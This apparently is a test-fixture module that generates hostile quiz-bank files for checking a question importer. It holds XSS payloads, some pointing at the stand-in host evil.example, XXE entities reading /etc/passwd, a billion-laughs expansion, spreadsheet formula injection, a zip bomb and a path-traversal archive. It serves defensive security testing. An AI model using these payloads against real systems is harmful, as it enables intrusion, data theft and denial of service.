import { zipSync } from 'fflate'

const utf8 = (text: string) => new TextEncoder().encode(text)

/** What an attacker would put where a question has its text. Each ends up in every place of every format. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<svg/onload=alert(1)>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">bấm</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">bấm</a>',
  '<a href="java\nscript:alert(1)" onclick="alert(1)">bấm</a>',
  '<object data="file:///etc/passwd"></object><embed src="//evil.example">',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href="//evil.example"><meta http-equiv=refresh content="0;//evil.example">',
  '<form action="//evil.example"><input name=otp><button>Gửi</button></form>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><script>alert(1)</script>-->',
  '<textarea><script>alert(1)</script></textarea>',
  '<p title="</p><script>alert(1)</script>">chữ</p>',
  '<audio src=x onerror=alert(1)></audio><video><source onerror=alert(1)></video>',
  '<base href="//evil.example/">',
]

/** The same markup in a choice of every text format. */
const INTO: Record<string, (text: string) => Uint8Array> = {
  'a.gift': (text) =>
    utf8(
      `$CATEGORY: ${text}\n\n::${text}::[html]${gift(text)}{=${gift(text)}#${gift(text)}\n~b#${gift(text)}\n####${gift(text)}}\n`,
    ),
  'b.gift': (text) => utf8(`${gift(text)}{=[html]${gift(text)} -> ${gift(text)}\n=b -> c\n}\n`),
  'c.xml': (text) => quiz(`<![CDATA[${text.replaceAll(']]>', '')}]]>`),
  'd.xml': (text) => quiz(text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')),
}

function gift(text: string): string {
  return text.replace(/[~=#{}:]/g, '\\$&').replace(/\n/g, ' ')
}

function quiz(text: string): Uint8Array {
  const html = (name: string, more = '') => `<${name} format="html" ${more}><text>${text}</text>`
  return utf8(
    `<quiz><question type="multichoice"><name><text>${text}</text></name>${html('questiontext')}</questiontext>${html('generalfeedback')}</generalfeedback>${html('answer', 'fraction="100"')}${html('feedback')}</feedback></answer>${html('answer', 'fraction="0"')}</answer></question></quiz>`,
  )
}

const MILLION = 1_000_000
/** In bytes: what is larger than a bank may be would be refused unread. */
const fill = (piece: string, bytes = 1_900_000) => piece.repeat(Math.floor(bytes / utf8(piece).length))

/** Texts that cost a careless reader seconds, gigabytes or its stack. */
const COSTLY: Record<string, string> = {
  'a million weights': `Hỏi?{=${'%'.repeat(MILLION)}a}`,
  'weights one after another': `Hỏi?{${fill('~%50%')}}`,
  'a million answers': `Hỏi?{${fill('=a ~b ')}}`,
  'opened and never closed': fill('{'),
  'closed and never opened': fill('}'),
  'braces in braces': `Hỏi?${fill('{', 900_000)}${fill('}', 900_000)}`,
  'names without end': fill('::'),
  'a question on every line': fill('{}\n'),
  'a choice on every line': fill('a{=b~c}\n\n'),
  backslashes: `Hỏi?{=${fill('\\')}}`,
  'escapes of everything': `Hỏi?{=${fill('\\=\\~\\#')}}`,
  'remarks without end': `${fill('// [tag:')}\n{}`,
  'tags in a remark': `// ${fill('[tag:a]')}\n::a::b{T}`,
  'categories without end': fill('$CATEGORY: a/b\n'),
  'a number of a million digits': `Hỏi?{#${'9'.repeat(MILLION)}}`,
  'ranges of ranges': `Hỏi?{#${fill('1..')}}`,
  'arrows without end': `Hỏi?{=${fill('->')}}`,
  'general feedback without end': `Hỏi?{=a${fill('####')}}`,
  'tags of HTML that never end': `[html]${fill('<a "')}{T}`,
  'tags of HTML without quotes': `[html]${fill('<b ')}{T}`,
  'scripts that never end': `[html]${fill('<script>')}{T}`,
  'comments that never end': `[html]${fill('<!--')}{T}`,
  'superscripts that never end': `[html]${fill('<sup>1')}{T}`,
  'entities without end': `[html]${fill('&amp')}{T}`,
  'marks on one letter': `a${fill('\u0301\u0323', 380_000)}{=a${fill('\u0301\u0323', 1_500_000)} ~b}`,
  'marks within a short text': `a${fill('\u0301\u0323', 3_800)}{T}`,
  'blank letters': `a${fill(' ')}b{T}`,
  'line ends of every kind': fill('\r\n\r\n\n\r'),
  'options without a question': fill('A. a\n'),
  'answers without options': `${fill('ANSWER: A\n')}{}`,
  'Aiken by the thousand': fill('Hỏi?\nA. a\nANSWER: A\n\n'),
  'Aiken that asks forever': `${fill('hỏi ')}\nA. a\nANSWER: A\n`,
  'XML in XML': `<quiz>${fill('<question>')}`,
  'XML that only opens': fill('<quiz>'),
  'an enormous attribute': `<quiz><question type="${'a'.repeat(1_900_000)}"></question></quiz>`,
  'attributes by the hundred thousand': `<quiz><question ${fill('a="b" ', 1_500_000)}></question></quiz>`,
  'attributes without quotes': `<quiz><question ${fill('a=', 1_500_000)}></question></quiz>`,
  'quotes that never close': `<quiz><question ${fill('"\' ')}></question></quiz>`,
  'empty questions': `<quiz>${fill('<question type="essay"/>')}</quiz>`,
  'line ends before questions': `<quiz>${fill('\n', 1_000_000)}${fill('<question type="essay"/>\n', 800_000)}</quiz>`,
  'empty answers': `<quiz><question type="multichoice">${fill('<answer/>')}</question></quiz>`,
  'CDATA without end': `<quiz>${fill('<![CDATA[')}</quiz>`,
  'CDATA by the thousand': `<quiz><question type="essay">${fill('<![CDATA[]]>')}</question></quiz>`,
  'comments by the thousand': `<quiz>${fill('<!-- -->')}</quiz>`,
  'instructions by the thousand': `<quiz>${fill('<?a?>')}</quiz>`,
  'numbered letters': `<quiz><question type="essay"><name><text>${fill('&#65;')}</text></name></question></quiz>`,
  'a file of bytes': `<quiz><question type="truefalse"><questiontext><text>a</text><file name="../../x">${fill('A')}</file></questiontext></question></quiz>`,
  'billion laughs': `<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY a "${'ha'.repeat(100)}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><quiz><question type="essay"><name><text>&c;</text></name></question></quiz>`,
  'an entity from a file':
    '<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz><question type="essay"><name><text>&x;</text></name></question></quiz>',
  'an entity from the net': '<!DOCTYPE quiz SYSTEM "http://127.0.0.1:9/x.dtd"><quiz></quiz>',
  'a parameter entity': '<!DOCTYPE quiz [<!ENTITY % x SYSTEM "http://127.0.0.1:9/"> %x;]><quiz></quiz>',
  'an inclusion':
    '<quiz xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></quiz>',
}

const CELLS = [
  '=cmd|calc!A0',
  '=HYPERLINK("http://evil.example")',
  '@SUM(1)',
  '-1+1',
  '+1',
  ...MARKUP.slice(0, 6),
]

/** Every hostile bank: what it is called, its file's name and its bytes. */
export function hostileBanks(): { title: string; name: string; bytes: Uint8Array }[] {
  const markup = MARKUP.flatMap((text) =>
    Object.entries(INTO).map(([name, into]) => ({ title: `${name}: ${text}`, name, bytes: into(text) })),
  )
  const costly = Object.entries(COSTLY).map(([title, text]) => ({ title, name: 'a.txt', bytes: utf8(text) }))
  const cells = CELLS.map((cell) => ({
    ...{ title: `a cell: ${cell}`, name: 'a.csv' },
    bytes: utf8(
      `Câu hỏi;Đáp án đúng;Phương án A;Phương án B\n"${cell.replaceAll('"', '""')}";A;"${cell.replaceAll('"', '""')}";b\n`,
    ),
  }))
  const bomb = zipSync({ 'xl/workbook.xml': new Uint8Array(60_000_000), '[Content_Types].xml': utf8('<a/>') })
  const files = [
    { title: 'a spreadsheet that unpacks to 60 MB', name: 'a.xlsx', bytes: bomb },
    {
      title: 'a zip that is no spreadsheet',
      name: '../../a.xlsx',
      bytes: zipSync({ '../../etc/passwd': utf8('a') }),
    },
    { title: 'more than two million bytes', name: 'a.gift', bytes: new Uint8Array(2_000_001) },
    {
      title: 'bytes that are no text',
      name: 'a.gift',
      bytes: Uint8Array.from({ length: 5_000 }, (_, at) => (at * 7919) % 256),
    },
  ]
  return [...markup, ...costly, ...cells, ...files]
}
